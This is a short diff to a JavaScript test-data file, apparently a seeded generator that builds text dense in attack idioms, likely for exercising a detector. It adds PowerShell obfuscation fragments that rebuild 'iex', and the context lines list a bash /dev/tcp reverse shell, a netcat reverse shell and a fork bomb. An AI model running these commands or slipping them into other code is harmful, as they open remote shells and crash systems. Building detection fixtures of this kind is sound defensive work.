@@ -86,6 +86,11 @@ const PIECES = [
   ':',
   'ba',
   'type',
+  '&(',
+  '.(',
+  "'i'",
+  "+'ex'",
+  '"{1}{0}" -f',
 ]
 const LIKELY = [
   'bash -i >& /dev/tcp/1.2.3.4/80 0>&1',
@@ -108,6 +113,7 @@ const LIKELY = [
   'type c:\\boot.ini',
   'sh -i 2>&1 | nc x 1 >&0',
   'f(){ f|f& };f',
+  "&('i'+'ex')",
 ]
 
 /** A seeded generator of texts dense in idiom pieces. */
